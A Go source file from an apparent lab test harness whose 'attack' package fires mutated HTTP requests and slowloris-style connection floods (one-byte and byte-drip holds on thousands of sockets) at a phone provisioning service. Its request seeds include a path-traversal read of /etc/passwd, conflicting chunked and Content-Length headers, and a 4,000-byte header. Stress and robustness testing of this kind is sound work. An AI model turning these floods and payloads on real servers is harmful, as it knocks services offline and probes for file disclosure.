package attack

import (
	"bytes"
	"context"
	"math/rand/v2"
	"net"
	"time"

	"tvslab/service"
)

// get is the request of a phone.
var get = []byte("GET /" + itl + " HTTP/1.1\r\nHost:127.0.0.1\r\n\r\n")

// requests are those with which mutations begin.
var requests = [][]byte{
	get, bytes.Repeat(get, 50),
	[]byte("HEAD /ITLFile.tlv HTTP/1.1\r\nHost: x\r\nRange: bytes=1-2\r\n\r\n"),
	[]byte("POST /x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n5\r\nhello\r\n0\r\n\r\n"),
	[]byte("GET http://x/../../etc/passwd HTTP/1.1\r\nHost: x\r\nX: " + string(bytes.Repeat([]byte("a"), 4000)) + "\r\n\r\n"),
}

// httpMalformed sends mutated requests.
func httpMalformed(ctx context.Context, f *Field) error {
	return f.strike(ctx, f.addresses(service.HTTP), func(r *rand.Rand) []byte { return mutated(r, requests[r.IntN(len(requests))]) })
}

// strike sends one message on each of many short connections.
func (f *Field) strike(ctx context.Context, addresses []string, message func(r *rand.Rand) []byte) error {
	sent, answered := f.count("messages"), f.count("answered")
	crew(ctx, 8, func(r *rand.Rand) {
		c, err := net.DialTimeout("tcp", addresses[r.IntN(len(addresses))], dialTime)
		if err != nil {
			rest(ctx, 5*time.Millisecond)
			return
		}
		defer c.Close()
		write(c, message(r))
		sent.Add(1)
		if hears(c, r) {
			answered.Add(1)
		}
	})
	return nil
}

// hears waits for an answer, a moment or not at all.
func hears(c net.Conn, r *rand.Rand) bool {
	_ = c.SetReadDeadline(time.Now().Add(time.Duration(r.IntN(20)) * time.Millisecond))
	n, _ := c.Read(make([]byte, 4096))
	return n > 0
}

// httpOneByte holds thousands of connections that sent one byte of a request.
func httpOneByte(ctx context.Context, f *Field) error {
	siege{f.addresses(service.HTTP), mostSockets, sends('G')}.hold(ctx, f)
	return nil
}

// httpDrip holds connections whose requests come a byte at a time.
func httpDrip(ctx context.Context, f *Field) error {
	held := &ring{most: 2000}
	defer held.close()
	addresses, opened, bytes := f.addresses(service.HTTP), f.count("connections"), f.count("bytes")
	crew(ctx, 4, func(r *rand.Rand) {
		c, err := net.DialTimeout("tcp", addresses[r.IntN(len(addresses))], dialTime)
		if err != nil {
			rest(ctx, 5*time.Millisecond)
			return
		}
		opened.Add(1)
		held.add(c)
		if r.IntN(50) == 0 {
			held.each(func(c net.Conn) { write(c, []byte("G")); bytes.Add(1) })
		}
	})
	return nil
}
